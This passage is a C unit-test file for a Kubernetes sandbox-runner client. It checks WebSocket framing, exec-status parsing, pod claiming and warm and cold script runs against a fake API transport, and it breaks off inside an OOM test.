/* Warm runs: the WebSocket framing and handshake (ws.c), the exec status
 * (exec.c), the pool's claim and its check of a pod's hardening (pool.c),
 * and whole warm runs over the fake transport, with the exchanges of a
 * Kubernetes 1.20 server (v4.channel.k8s.io) and of a 1.30 one
 * (v5.channel.k8s.io); and the bootstrap, run by the local /bin/sh. */
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

#include "testutil.h"

#include "fake_transport.h"
#include "run_internal.h"

/* ---- ws.c ---- */

static void test_accept_key(void **state)
{
	char out[29];

	(void)state;
	/* RFC 6455 section 1.3's example. */
	assert_int_equal(gkx__ws_accept_for(out, "dGhlIHNhbXBsZSBub25jZQ=="), 0);
	assert_string_equal(out, "s3pPLMBiTxaQ9kYGzzhZRbK+xOo=");
}

static void test_sha1(void **state)
{
	unsigned char d[20];
	char hex[41];
	int i;

	(void)state;
	/* FIPS 180 vectors, one of them two blocks long. */
	gkx__sha1(d, "abc", 3);
	for (i = 0; i < 20; i++)
		snprintf(hex + 2 * i, 3, "%02x", d[i]);
	assert_string_equal(hex, "a9993e364706816aba3e25717850c26c9cd0d89d");
	gkx__sha1(d, "abcdbcdecdefdefgefghfghighijhijkijkljklmklmnlmnomnopnopq", 56);
	for (i = 0; i < 20; i++)
		snprintf(hex + 2 * i, 3, "%02x", d[i]);
	assert_string_equal(hex, "84983e441c3bd26ebaae4aa1f95129e5e54670f1");
}

static void test_encode_masks(void **state)
{
	static const unsigned char mask[4] = { 1, 2, 3, 4 };
	gkx_buf b = GKX_BUF_INIT;
	char big[70000];
	size_t i;

	(void)state;
	assert_int_equal(gkx__ws_encode(&b, GKX_WS_BINARY, "\0hi", 3, mask), 0);
	assert_int_equal(b.len, 2 + 4 + 3);
	assert_int_equal((unsigned char)b.ptr[0], 0x82); /* FIN, binary */
	assert_int_equal((unsigned char)b.ptr[1], 0x80 | 3);
	assert_int_equal(b.ptr[6] ^ 1, 0);
	assert_int_equal(b.ptr[7] ^ 2, 'h');
	assert_int_equal(b.ptr[8] ^ 3, 'i');
	b.len = 0;
	memset(big, 'x', sizeof(big));
	assert_int_equal(gkx__ws_encode(&b, GKX_WS_BINARY, big, sizeof(big), mask), 0);
	assert_int_equal((unsigned char)b.ptr[1], 0x80 | 127);
	assert_int_equal(b.len, 2 + 8 + 4 + sizeof(big));
	for (i = 0; i < sizeof(big); i++)
		assert_int_equal(b.ptr[14 + i] ^ (char)mask[i % 4], 'x');
	gkx__buf_free(&b);
}

typedef struct {
	int kinds[16];
	char data[16][80];
	size_t n;
} got_messages;

static int got(int kind, const char *data, size_t len, void *ud)
{
	got_messages *g = ud;

	g->kinds[g->n] = kind;
	snprintf(g->data[g->n], sizeof(g->data[0]), "%.*s", (int)len, data);
	g->n++;
	return 0;
}

/* Server frames, fed one byte at a time. */
static int feed_bytes(gkx_ws_decoder *d, const char *bytes, size_t len)
{
	size_t i;
	int rc = 0;

	for (i = 0; i < len && rc == 0; i++)
		rc = gkx__ws_feed(d, bytes + i, 1);
	return rc;
}

static void test_decode(void **state)
{
	/* A binary "\1out", a text message in two fragments with a ping in
	 * between, then a close with status 1000. */
	static const char frames[] = "\x82\x04\x01out"
	                             "\x01\x03hel"
	                             "\x89\x02pi"
	                             "\x80\x02lo"
	                             "\x88\x02\x03\xe8";
	gkx_ws_decoder d;
	got_messages g;

	(void)state;
	memset(&d, 0, sizeof(d));
	memset(&g, 0, sizeof(g));
	d.on_message = got;
	d.ud = &g;
	assert_int_equal(feed_bytes(&d, frames, sizeof(frames) - 1), 0);
	assert_int_equal(g.n, 4);
	assert_int_equal(g.kinds[0], GKX_WS_BINARY);
	assert_string_equal(g.data[0], "\1out");
	assert_int_equal(g.kinds[1], 9); /* the ping, between the fragments */
	assert_string_equal(g.data[1], "pi");
	assert_int_equal(g.kinds[2], GKX_WS_TEXT);
	assert_string_equal(g.data[2], "hello");
	assert_int_equal(g.kinds[3], GKX_WS_CLOSE);
	assert_int_equal(d.closed, 1);
	gkx__ws_decoder_reset(&d);
}

static void test_decode_refuses(void **state)
{
	static const struct {
		const char *bytes;
		size_t len;
		int rc;
	} bad[] = {
		{ "\x82\x81\x00\x00\x00\x00x", 7, GKX_EPROTO }, /* masked by a server */
		{ "\xc2\x01x", 3, GKX_EPROTO },                 /* RSV1: no extension */
		{ "\x80\x01x", 3, GKX_EPROTO },                 /* continuation of nothing */
		{ "\x09\x00", 2, GKX_EPROTO },                  /* a fragmented ping */
		{ "\x83\x00", 2, GKX_EPROTO },                  /* opcode 3 is reserved */
		{ "\x02\x01x\x82\x01y", 6, GKX_EPROTO },        /* a message inside a message */
		{ "\x82\x7f\x00\x00\x00\x00\x01\x00\x00\x01", 10, GKX_ETOOBIG }, /* 16 MiB + 1 */
	};
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(bad) / sizeof(*bad); i++) {
		gkx_ws_decoder d;
		memset(&d, 0, sizeof(d));
		assert_int_equal(gkx__ws_feed(&d, bad[i].bytes, bad[i].len), bad[i].rc);
		gkx__ws_decoder_reset(&d);
	}
}

static void test_http1_head(void **state)
{
	static const char ok[] = "HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\n"
	                         "connection: Upgrade\r\nSec-WebSocket-Accept:  abc= \r\n"
	                         "SEC-WEBSOCKET-PROTOCOL: v4.channel.k8s.io\r\n\r\n\x82\x01";
	static const char refused[] = "HTTP/1.1 403 Forbidden\r\nContent-Length: 12\r\n"
	                              "Retry-After: 3\r\n\r\n{\"a\":1}";
	gkx_http1_head h;
	gkx_buf b = GKX_BUF_INIT;

	(void)state;
	assert_int_equal(gkx__http1_head(&h, ok, 20), 0); /* not whole yet */
	assert_int_equal(gkx__http1_head(&h, ok, sizeof(ok) - 1), 1);
	assert_int_equal(h.status, 101);
	assert_true(h.upgrade_websocket);
	assert_string_equal(h.accept, "abc=");
	assert_string_equal(h.protocol, "v4.channel.k8s.io");
	assert_int_equal(h.head_len, sizeof(ok) - 1 - 2);
	assert_int_equal(gkx__http1_head(&h, refused, sizeof(refused) - 1), 1);
	assert_int_equal(h.status, 403);
	assert_int_equal(h.content_length, 12);
	assert_int_equal(h.retry_after_s, 3);
	assert_int_equal(gkx__http1_head(&h, "SSH-2.0-x\r\n\r\n", 13), GKX_EPROTO);
	/* A chunked refusal, with an extension and a trailer. */
	assert_int_equal(gkx__http1_dechunk(&b, "5;x=1\r\nhello\r\n6\r\n world\r\n", 24), 0);
	assert_int_equal(
	        gkx__http1_dechunk(&b, "5;x=1\r\nhello\r\n6\r\n world\r\n0\r\nT: 1\r\n\r\n", 36),
	        1);
	assert_int_equal(b.len, 11);
	assert_memory_equal(b.ptr, "hello world", 11);
	assert_int_equal(gkx__http1_dechunk(&b, "zz\r\n", 4), GKX_EPROTO);
	gkx__buf_free(&b);
}

/* ---- exec.c ---- */

static void test_exec_status(void **state)
{
	char msg[128];
	int code;

	(void)state;
	assert_int_equal(gkx__exec_parse_status("{\"metadata\":{},\"status\":\"Success\"}", 34,
	                                        &code, msg, sizeof(msg)),
	                 0);
	assert_int_equal(code, 0);
	/* As the 1.20 kubelet writes a non-zero exit. */
	{
		static const char s[] =
		        "{\"metadata\":{},\"status\":\"Failure\",\"message\":\"command terminated "
		        "with non-zero exit code: error executing command [sh -c x], exit code 3\","
		        "\"reason\":\"NonZeroExitCode\",\"details\":{\"causes\":[{\"reason\":"
		        "\"ExitCode\",\"message\":\"3\"}]}}";
		assert_int_equal(gkx__exec_parse_status(s, sizeof(s) - 1, &code, msg, sizeof(msg)),
		                 0);
		assert_int_equal(code, 3);
	}
	{
		static const char s[] = "{\"metadata\":{},\"status\":\"Failure\",\"message\":"
		                        "\"error executing command in container: container not "
		                        "found\",\"reason\":\"InternalError\",\"code\":500}";
		assert_int_equal(gkx__exec_parse_status(s, sizeof(s) - 1, &code, msg, sizeof(msg)),
		                 GKX_EAPI);
		assert_int_equal(code, -1);
		assert_non_null(strstr(msg, "container not found"));
	}
	assert_int_equal(gkx__exec_parse_status("exit 3", 6, &code, msg, sizeof(msg)), GKX_EPROTO);
	assert_int_equal(
	        gkx__exec_parse_status("{\"status\":\"Failure\",\"reason\":\"NonZeroExitCode\","
	                               "\"details\":{\"causes\":[{\"reason\":\"ExitCode\","
	                               "\"message\":\"999\"}]}}",
	                               98, &code, msg, sizeof(msg)),
	        GKX_EPROTO);
}

/* ---- a warm run over the fake transport ---- */

typedef struct {
	gkx_config *cfg;
	gkx_client *client;
	gkx_buf out, err;
	char pod_json[16500];
	char two_pods[33000];
} fixture;

static int capture(const char *data, size_t len, void *ud)
{
	return gkx__buf_put(ud, data, len) < 0;
}

/* A parked pod exactly as the manifest builders make one, as the API
 * server lists it: what we park is what we accept. */
static void parked_pod(char *out, size_t outlen, const char *name, const gkx__pool *p)
{
	gkx_manifest_spec s;
	cJSON *job, *pod, *meta, *labels, *status, *cs;
	char *text;
	char jobname[64];

	snprintf(jobname, sizeof(jobname), "%.*s", (int)(strrchr(name, '-') - name), name);
	memset(&s, 0, sizeof(s));
	s.name = jobname;
	s.ns = "sandbox";
	s.image = p->image;
	s.cpu_limit = p->cpu;
	s.cpu_request = p->cpu_req;
	s.memory_limit = p->memory;
	s.memory_request = p->mem_req;
	s.runtime_class = p->runtime_class;
	s.pool = p->shape;
	s.pool_ttl_s = 2000000000L; /* time enough, whatever the clock says */
	s.timeout_s = 900;
	s.gate = p->network_none;
	job = gkx__manifest_job(&s);
	pod = cJSON_CreateObject();
	meta = cJSON_AddObjectToObject(pod, "metadata");
	cJSON_AddStringToObject(meta, "name", name);
	cJSON_AddStringToObject(meta, "resourceVersion", "4711");
	labels = cJSON_Duplicate(at(job, "spec.template.metadata.labels"), 1);
	cJSON_AddStringToObject(labels, "job-name", jobname);
	cJSON_AddItemToObject(meta, "labels", labels);
	cJSON_AddItemToObject(pod, "spec", cJSON_Duplicate(at(job, "spec.template.spec"), 1));
	status = cJSON_AddObjectToObject(pod, "status");
	cJSON_AddStringToObject(status, "phase", "Running");
	cJSON_AddStringToObject(status, "startTime", "2026-11-30T06:00:00Z");
	cs = cJSON_AddArrayToObject(status, "containerStatuses");
	cJSON_AddItemToArray(cs, cJSON_Parse("{\"name\":\"sandbox\",\"state\":{\"running\":{}}}"));
	text = cJSON_PrintUnformatted(pod);
	snprintf(out, outlen, "%s", text);
	cJSON_free(text);
	cJSON_Delete(pod);
	cJSON_Delete(job);
}

static int setup(void **state)
{
	fixture *f = calloc(1, sizeof(*f));
	gkx_config_options o;
	gkx_error err;
	gkx__pool p;
	char a[16384], b[16384];

	fake_reset();
	gkx_config_options_init(&o);
	o.kubeconfig = GKX_FIXTURES "/kubeconfig/token.yaml";
	o.ns = "sandbox";
	assert_int_equal(gkx_config_load(&f->cfg, &o, &err), 0);
	assert_int_equal(gkx_client_new(&f->client, f->cfg, &err), 0);
	assert_int_equal(gkx_client_set_transport(f->client, &fake_transport, NULL, &err), 0);
	assert_int_equal(gkx__pool_init(&p, "sandbox", NULL, NULL, NULL, NULL, 0, 0, &err), 0);
	parked_pod(a, sizeof(a), "sandbox-pool-aaaaaaaa-x1", &p);
	parked_pod(b, sizeof(b), "sandbox-pool-bbbbbbbb-x2", &p);
	snprintf(f->pod_json, sizeof(f->pod_json), "{\"kind\":\"PodList\",\"items\":[%s]}", a);
	snprintf(f->two_pods, sizeof(f->two_pods), "{\"kind\":\"PodList\",\"items\":[%s,%s]}", a,
	         b);
	*state = f;
	return 0;
}

static int teardown(void **state)
{
	fixture *f = *state;

	gkx_client_free(f->client);
	gkx_config_free(f->cfg);
	gkx__buf_free(&f->out);
	gkx__buf_free(&f->err);
	free(f);
	fake_reset();
	return 0;
}

static gkx_run *warm_run(fixture *f, const char *code)
{
	gkx_run_options o = GKX_RUN_OPTIONS_INIT;
	static const char *const args[] = { "--rows", "two\nlines" };
	static const char *const env[] = { "A=1" };
	gkx_run *run = NULL;
	gkx_error err;

	o.script_name = "job.py";
	o.script = code;
	o.script_len = strlen(code);
	o.args = args;
	o.nargs = 2;
	o.env = env;
	o.nenv = 1;
	o.on_output = capture;
	o.output_userdata = &f->out;
	o.on_stderr = capture;
	o.stderr_userdata = &f->err;
	assert_int_equal(gkx_run_new(&run, f->client, &o, &err), 0);
	return run;
}

#define EXIT3                                                                              \
	"\3{\"metadata\":{},\"status\":\"Failure\",\"message\":\"command terminated with " \
	"non-zero exit code: exit status 3\",\"reason\":\"NonZeroExitCode\",\"details\":{" \
	"\"causes\":[{\"reason\":\"ExitCode\",\"message\":\"3\"}]}}"

static const fake_message exchange[] = {
	{ GKX_WS_BINARY, "\1out\n", 5 },
	{ GKX_WS_BINARY, "\2err\n", 5 },
	{ GKX_WS_BINARY, EXIT3, sizeof(EXIT3) - 1 },
	{ GKX_WS_CLOSE, "\3\350", 2 },
};

static void expect_claim(fixture *f, const char *list)
{
	(void)f;
	fake_expect("GET", "/api/v1/namespaces/sandbox/pods?labelSelector=", 200, list);
}

/* The exchange with a 1.20 API server, which speaks only v4. */
static void warm_with(void **state, const char *protocol, int closes_stdin)
{
	fixture *f = *state;
	gkx_run *run = warm_run(f, "print('out'); import sys; sys.exit(3)\n");
	gkx_error err;
	const fake_request *patch, *exec;
	size_t i;
	cJSON *body;

	expect_claim(f, f->pod_json);
	fake_expect("PATCH", "/pods/sandbox-pool-aaaaaaaa-x1", 200, "{}");
	fake_expect_ws("/pods/sandbox-pool-aaaaaaaa-x1/exec?", protocol, 101, exchange, 4, 1, 0);
	fake_expect("POST", "/jobs", 201, "{\"metadata\":{\"uid\":\"u\"}}"); /* the replacement */
	fake_expect("DELETE", "/jobs/sandbox-pool-aaaaaaaa", 200, "{}");
	assert_int_equal(gkx_run_execute(run, &err), 0);
	assert_error_clear(&err);
	assert_int_equal(fake_unexpected(), 0);
	assert_int_equal(fake_unused(), 0);
	assert_true(gkx_run_warm(run));
	assert_string_equal(gkx_run_pod(run), "sandbox-pool-aaaaaaaa-x1");
	assert_int_equal(gkx_run_exit_code(run), 3);
	assert_string_equal(gkx_run_reason(run), "Error");
	assert_string_equal(f->out.ptr, "out\n");
	assert_string_equal(f->err.ptr, "err\n");

	/* The claim: the pod's resourceVersion as a precondition, the state
	 * label, and a deadline no longer than the run's. */
	patch = fake_request_at(1);
	body = cJSON_Parse(patch->body);
	assert_json_string(body, "metadata.resourceVersion", "4711");
	assert_string_equal(gkx__json_str(body, "metadata", "labels", GKX_LABEL_STATE, GKX__END),
	                    "claimed");
	cJSON_Delete(body);
	assert_non_null(strstr(patch->body, "\"activeDeadlineSeconds\":"));
	/* The exec: both protocols offered, newest first; nothing of the run's
	 * in the URL (the audit log sees it). */
	exec = fake_request_at(2);
	assert_string_equal(exec->subprotocols, "v5.channel.k8s.io,v4.channel.k8s.io");
	assert_null(strstr(exec->url, "print"));
	assert_null(strstr(exec->url, "rows"));
	assert_null(strstr(exec->url, "job.py"));
	/* stdin: the input on channel 0; with v5 then [255, 0], with v4 not. */
	assert_true(fake_sent() >= 1);
	assert_int_equal(fake_sent_at(0)->kind, GKX_WS_BINARY);
	assert_int_equal(fake_sent_at(0)->data[0], 0);
	assert_memory_equal(fake_sent_at(0)->data + 1, "gkx-exec-1 ", 11);
	assert_non_null(strstr(fake_sent_at(0)->data + 1, "print('out')"));
	assert_null(strstr(fake_sent_at(0)->data + 1, "\nJ\n")); /* apart */
	for (i = 0; i < fake_sent(); i++)
		if (fake_sent_at(i)->len == 2 && (unsigned char)fake_sent_at(i)->data[0] == 255)
			break;
	assert_int_equal(i < fake_sent(), closes_stdin);
	assert_int_equal(gkx_run_request_count(run), 5);
	gkx_run_free(run);
}

static void test_warm_v4(void **state) { warm_with(state, "v4.channel.k8s.io", 0); }
static void test_warm_v5(void **state) { warm_with(state, "v5.channel.k8s.io", 1); }

/* Another client claimed the first pod between our list and our patch. */
static void test_claim_race(void **state)
{
	fixture *f = *state;
	gkx_run *run = warm_run(f, "print(1)\n");
	gkx_error err;
	const char *first, *second;
	static const fake_message ok[] = {
		{ GKX_WS_BINARY, "\3{\"metadata\":{},\"status\":\"Success\"}", 35 },
	};

	expect_claim(f, f->two_pods);
	fake_expect(
	        "PATCH", "/pods/sandbox-pool-", 409,
	        "{\"kind\":\"Status\",\"reason\":\"Conflict\",\"message\":\"the object has been "
	        "modified\",\"code\":409}");
	fake_expect("PATCH", "/pods/sandbox-pool-", 200, "{}");
	fake_expect_ws("/exec?", "v4.channel.k8s.io", 101, ok, 1, 1, 0);
	fake_expect("POST", "/jobs", 201, "{\"metadata\":{\"uid\":\"u\"}}");
	fake_expect("DELETE", "/jobs/sandbox-pool-", 200, "{}");
	assert_int_equal(gkx_run_execute(run, &err), 0);
	assert_int_equal(gkx_run_exit_code(run), 0);
	assert_int_equal(fake_unexpected(), 0);
	assert_int_equal(fake_unused(), 0);
	/* Two different pods were tried; the run used the second. */
	first = strstr(fake_request_at(1)->url, "sandbox-pool-");
	second = strstr(fake_request_at(2)->url, "sandbox-pool-");
	assert_string_not_equal(first, second);
	assert_non_null(strstr(fake_request_at(3)->url, second));
	gkx_run_free(run);
}

/* The start every cold run here shares (no parked pod; the Job, and no
 * ConfigMap: the code goes over the exec), and the cleanup of one that
 * execs into pod "p". */
static void expect_cold_start(fixture *f)
{
	expect_claim(f, "{\"kind\":\"PodList\",\"items\":[]}");
	fake_expect("POST", "/jobs", 201, "{\"kind\":\"Job\",\"metadata\":{\"uid\":\"u\"}}");
}

static void expect_exec_cleanup(void)
{
	fake_expect("DELETE", "/jobs/", 200, "{}");
	fake_expect("DELETE", "/pods/p?gracePeriodSeconds=0", 200, "{}");
}

/* No parked pod of this shape: a Job, and the phase says why. */
static char phase_note[400];
static void note_phase(gkx_phase phase, const char *detail, void *ud)
{
	(void)ud;
	if (phase == GKX_PHASE_CLAIMING && strstr(detail, "no parked"))
		snprintf(phase_note, sizeof(phase_note), "%s", detail);
}

#define OWNED_BY(uid) \
	",\"ownerReferences\":[{\"kind\":\"Job\",\"uid\":\"" uid "\",\"controller\":true}]"
#define BOUND_POD_OF(name, uid)                                                          \
	"{\"type\":\"ADDED\",\"object\":{\"metadata\":{\"name\":\"" name                 \
	"\",\"resourceVersion\":\"7\"" OWNED_BY(uid) "},\"spec\":{\"nodeName\":\"n1\"}," \
	                                             "\"status\":{\"phase\":\"Pending\"}}}\n"
#define BOUND_POD BOUND_POD_OF("p", "u")
#define EXIT0     "\3{\"metadata\":{},\"status\":\"Success\"}"
/* The kubelet's event once the runtime started the container. */
#define STARTED_EVENT                                                                 \
	"{\"type\":\"ADDED\",\"object\":{\"kind\":\"Event\",\"reason\":\"Started\","  \
	"\"involvedObject\":{\"kind\":\"Pod\",\"name\":\"p\"},\"message\":\"Started " \
	"container sandbox\"}}\n"
#define EVENTS_FORBIDDEN                                                                   \
	"{\"kind\":\"Status\",\"status\":\"Failure\",\"message\":\"events is forbidden\"," \
	"\"reason\":\"Forbidden\",\"code\":403}"

static const fake_message one_line[] = {
	{ GKX_WS_BINARY,
	  "\1"
	  "1\n",
	  3 },
	{ GKX_WS_BINARY,
	  "\2"
	  "e\n",
	  3 },
	{ GKX_WS_BINARY, EXIT0, sizeof(EXIT0) - 1 },
	{ GKX_WS_CLOSE, "\3\350", 2 },
};

/* The kubelet's answer while the container does not run yet. */
static const fake_message not_yet[] = {
	{ 0,
	  "{\"kind\":\"Status\",\"status\":\"Failure\",\"message\":\"container not found "
	  "(\\\"sandbox\\\")\",\"code\":500}",
	  0 },
};

static gkx_run *cold_run(fixture *f)
{
	gkx_run_options o = GKX_RUN_OPTIONS_INIT;
	static const char *const env[] = { "A=1" };
	gkx_run *run = NULL;
	gkx_error err;

	o.script_name = "job.py";
	o.script = "print(1)";
	o.script_len = 8;
	o.env = env;
	o.nenv = 1;
	o.on_output = capture;
	o.output_userdata = &f->out;
	o.on_stderr = capture;
	o.stderr_userdata = &f->err;
	o.on_phase = note_phase;
	assert_int_equal(gkx_run_new(&run, f->client, &o, &err), 0);
	return run;
}

/* No parked pod of this shape: a Job, and the phase says why. Its
 * container waits; the code starts by exec as soon as the container
 * runs (until then the kubelet answers "container not found"), so the
 * end comes from the exec's status, not from the pod status. */
static void test_no_pool_goes_cold(void **state)
{
	fixture *f = *state;
	gkx_run *run = cold_run(f);
	gkx_error err;
	const fake_request *job_req;
	cJSON *job;
	const cJSON *cmd;
	const char *payload;
	size_t i, execs = 0;
	gkx_run_timings t;

	phase_note[0] = '\0';
	expect_cold_start(f);
	/* A pod planted with the Job's label comes first: never used. */
	fake_expect("GET", "/pods?labelSelector=job-name", 200,
	            BOUND_POD_OF("planted", "not-the-job"));
	fake_expect_delayed("GET", "/pods?labelSelector=job-name", 200, BOUND_POD, 3);
	fake_expect_open("GET", "/pods?labelSelector=job-name", 200, "");
	fake_expect_open(
	        "GET", "/events?fieldSelector=involvedObject.kind%3DPod%2CinvolvedObject.name%3Dp",
	        200, STARTED_EVENT);
	fake_expect_ws("/pods/p/exec?", NULL, 500, not_yet, 1, 0, 0);
	fake_expect_ws("/pods/p/exec?", "v4.channel.k8s.io", 101, one_line, 4, 1, 0);
	expect_exec_cleanup();
	assert_int_equal(gkx_run_execute(run, &err), 0);
	assert_error_clear(&err);
	assert_int_equal(fake_unexpected(), 0);
	assert_int_equal(fake_unused(), 0);
	assert_false(gkx_run_warm(run));
	assert_int_equal(gkx_run_exit_code(run), 0);
	assert_string_equal(gkx_run_reason(run), "Completed");
	assert_string_equal(f->out.ptr, "1\n");
	assert_string_equal(f->err.ptr, "e\n");
	assert_non_null(strstr(phase_note, "no parked sandbox of this shape"));
	for (i = 0; i < fake_count(); i++) {
		execs += strstr(fake_request_at(i)->url, "/exec?") != NULL;
		assert_null(strstr(fake_request_at(i)->url, "planted"));
	}
	assert_int_equal(execs, 2);
	for (i = 0; i < fake_count(); i++)
		assert_null(strstr(fake_request_at(i)->url, "/configmaps"));
	gkx_run_get_timings(run, &t);
	assert_true(t.scheduled >= 0 && t.started >= t.scheduled && t.ended >= t.started);

	/* The Job's container only waits, with an empty writable /app and
	 * no ConfigMap (nothing the kubelet must fetch); the code is in no
	 * object, and the caller's variables are in the spec. */
	job_req = fake_request_at(1);
	job = cJSON_Parse(job_req->body);
	cmd = at(job, "spec.template.spec.containers.0.command");
	assert_string_equal(cJSON_GetArrayItem(cmd, 2)->valuestring, GKX_PARK_COMMAND);
	assert_json_string(job, "spec.template.spec.volumes.0.name", "code");
	assert_non_null(at(job, "spec.template.spec.volumes.0.emptyDir"));
	assert_null(strstr(job_req->body, "configMap"));
	assert_true(
	        cJSON_IsFalse(at(job, "spec.template.spec.containers.0.volumeMounts.0.readOnly")));
	assert_non_null(strstr(job_req->body, "{\"name\":\"A\",\"value\":\"1\"}"));
	assert_null(strstr(job_req->body, "print(1)"));
	cJSON_Delete(job);
	/* The input: the command and the file, no env of its own. */
	payload = fake_sent_at(0)->data + 1;
	assert_non_null(strstr(payload, "A python3\nA /app/job.py\n"));
	assert_non_null(strstr(payload, "\nT job.py\nM print(1)\n"));
	assert_non_null(strstr(payload, "\nJ\n"));
	assert_null(strstr(payload, "A env\n"));
	gkx_run_free(run);
}

/* --network=none with the code over the exec: the policy is made before
 * anything is sent, and no ConfigMap at all (the kubelet would have to
 * fetch it, a second late when the node authorizer does not know it yet). */
static void test_cold_exec_network_none(void **state)
{
	fixture *f = *state;
	gkx_run_options o = GKX_RUN_OPTIONS_INIT;
	gkx_run *run = NULL;
	gkx_error err;
	size_t i, policy_at = 0, exec_at = 0;

	o.script_name = "job.py";
	o.script = "print(1)";
	o.script_len = 8;
	o.network = "none";
	o.on_output = capture;
	o.output_userdata = &f->out;
	assert_int_equal(gkx_run_new(&run, f->client, &o, &err), 0);
	expect_cold_start(f);
	fake_expect("POST", "/networkpolicies", 201, "{}");
	fake_expect_open("GET", "/pods?labelSelector=job-name", 200, BOUND_POD);
	fake_expect_open("GET", "/events?", 200, STARTED_EVENT);
	fake_expect_ws("/pods/p/exec?", "v4.channel.k8s.io", 101, one_line, 4, 1, 0);
	expect_exec_cleanup();
	fake_expect("DELETE", "/networkpolicies/", 200, "{}");
	assert_int_equal(gkx_run_execute(run, &err), 0);
	assert_error_clear(&err);
	assert_int_equal(fake_unexpected(), 0);
	assert_int_equal(fake_unused(), 0);
	assert_string_equal(f->out.ptr, "1\ne\n");
	for (i = 0; i < fake_count(); i++) {
		const char *url = fake_request_at(i)->url;
		assert_null(strstr(url, "/configmaps"));
		if (!policy_at && strstr(url, "/networkpolicies"))
			policy_at = i + 1;
		if (!exec_at && strstr(url, "/exec?"))
			exec_at = i + 1;
	}
	assert_true(policy_at > 0 && exec_at > policy_at);
	assert_string_equal(fake_request_at(policy_at - 1)->method, "POST");
	gkx_run_free(run);
}

/* An exec whose upgrade is never answered is dropped after 5 s and made
 * again, not waited for until the deadline. */
static void test_cold_exec_that_hangs_is_tried_again(void **state)
{
	fixture *f = *state;
	gkx_run *run = cold_run(f);
	gkx_error err;
	gkx_run_timings t;

	expect_cold_start(f);
	fake_expect_open("GET", "/pods?labelSelector=job-name", 200, BOUND_POD);
	fake_expect_open("GET", "/events?", 200, STARTED_EVENT);
	fake_expect_ws("/pods/p/exec?", NULL, 0, not_yet, 1, 0, 0);
	fake_expect_ws("/pods/p/exec?", "v4.channel.k8s.io", 101, one_line, 4, 1, 0);
	expect_exec_cleanup();
	assert_int_equal(gkx_run_execute(run, &err), 0);
	assert_error_clear(&err);
	assert_int_equal(fake_unexpected(), 0);
	assert_int_equal(fake_unused(), 0);
	assert_string_equal(f->out.ptr, "1\n");
	gkx_run_get_timings(run, &t);
	assert_true(t.started >= 5.0 && t.started < 7.0);
	gkx_run_free(run);
}

/* A Job whose container runs the script itself (pod "q"): its log. */
static void expect_self_run(void)
{
	fake_expect("POST", "/jobs", 201, "{\"metadata\":{\"uid\":\"u2\"}}");
	fake_expect("POST", "/configmaps", 201, "{}");
	fake_expect("GET", "/pods?labelSelector=job-name", 200,
	            "{\"type\":\"ADDED\",\"object\":{\"metadata\":{\"name\":\"q\"},"
	            "\"status\":{\"containerStatuses\":[{\"state\":{\"terminated\":{"
	            "\"exitCode\":0}}}]}}}\n");
	fake_expect("GET", "/pods/q/log", 200, "2026-11-30T06:29:09Z 1\n");
	fake_expect("DELETE", "/jobs/", 200, "{}");
	fake_expect("DELETE", "/configmaps/", 200, "{}");
}

/* A caller who may run Jobs but not exec into pods: the Job goes, and
 * the run starts over as a Job whose container runs the script itself;
 * later runs on the client go that way at once. */
static void test_cold_without_exec_right(void **state)
{
	fixture *f = *state;
	gkx_run *run = cold_run(f);
	gkx_error err;
	const char *first, *second;
	static const fake_message refusal[] = {
		{ 0,
		  "{\"kind\":\"Status\",\"status\":\"Failure\",\"message\":\"pods \\\"p\\\" is "
		  "forbidden: User \\\"r\\\" cannot get resource \\\"pods/exec\\\"\","
		  "\"reason\":\"Forbidden\",\"code\":403}",
		  0 },
	};
	size_t i;

	expect_cold_start(f);
	fake_expect_open("GET", "/pods?labelSelector=job-name", 200, BOUND_POD);
	fake_expect("GET", "/events?", 403, EVENTS_FORBIDDEN); /* then it polls */
	fake_expect_ws("/pods/p/exec?", NULL, 403, refusal, 1, 0, 0);
	expect_exec_cleanup();
	expect_self_run();
	assert_int_equal(gkx_run_execute(run, &err), 0);
	assert_error_clear(&err);
	assert_int_equal(fake_unexpected(), 0);
	assert_int_equal(fake_unused(), 0);
	assert_int_equal(gkx_run_exit_code(run), 0);
	assert_string_equal(f->out.ptr, "1\n");
	/* Two Jobs of two names; the second runs the script itself, from
	 * its ConfigMap. */
	first = second = NULL;
	for (i = 0; i < fake_count(); i++) {
		const fake_request *q = fake_request_at(i);
		if (!first && !strcmp(q->method, "DELETE") && strstr(q->url, "/jobs/"))
			first = strstr(q->url, "sandbox-run-");
		else if (first && !strcmp(q->method, "POST") && strstr(q->url, "/jobs"))
			second = q->body;
	}
	assert_non_null(first);
	assert_non_null(second);
	assert_null(strstr(second, first));
	assert_non_null(strstr(second, "/app/job.py"));
	assert_null(strstr(second, GKX_PARK_COMMAND));
	assert_non_null(strstr(second, "\"configMap\""));
	gkx_run_free(run);

	/* The client remembers: no exec tried for the next run. */
	fake_reset();
	gkx__buf_free(&f->out);
	run = cold_run(f);
	expect_claim(f, "{\"kind\":\"PodList\",\"items\":[]}");
	expect_self_run();
	assert_int_equal(gkx_run_execute(run, &err), 0);
	assert_int_equal(fake_unexpected(), 0);
	assert_int_equal(fake_unused(), 0);
	assert_string_equal(f->out.ptr, "1\n");
	gkx_run_free(run);
}

/* The process died of SIGKILL: the pod status, a moment later, says the
 * memory limit did it. */
static void test_cold_exec_oom(void **state)
{
	fixture *f = *state;
	gkx_run *run = cold_run(f);
	gkx_error err;
	static const char kill9[] =
	        "\3{\"metadata\":{},\"status\":\"Failure\",\"message\":\"command terminated "
	        "with non-zero exit code: exit status 137\",\"reason\":\"NonZeroExitCode\","
	        "\"details\":{\"causes\":[{\"reason\":\"ExitCode\",\"message\":\"137\"}]}}";
	static const fake_message killed[] = {
		{ GKX_WS_BINARY, kill9, sizeof(kill9) - 1 },
		{ GKX_WS_CLOSE, "\3\350", 2 },
	};
	static const char oom[] =
	        "{\"type\":\"MODIFIED\",\"object\":{\"metadata\":{\"name\":\"p\"" OWNED_BY(
	                "u") "},\"spec\":{"
	                     "\"nodeName\":\"n1\"},\"status\":{\"containerStatuses\":[{\"state\":{"
	                     "\"terminated\":{\"exitCode\":137,\"reason\":\"OOMKilled\"}}}]}}}\n";

	expect_cold_start(f);
	fake_expect("GET", "/pods?labelSelector=job-name", 200, BOUND_POD);
	fake_expect("GET", "/events?", 200, STARTED_EVENT);
	fake_expect_ws("/pods/p/exec?", "v4.channel.k8s.io", 101, killed, 2, 1, 0);
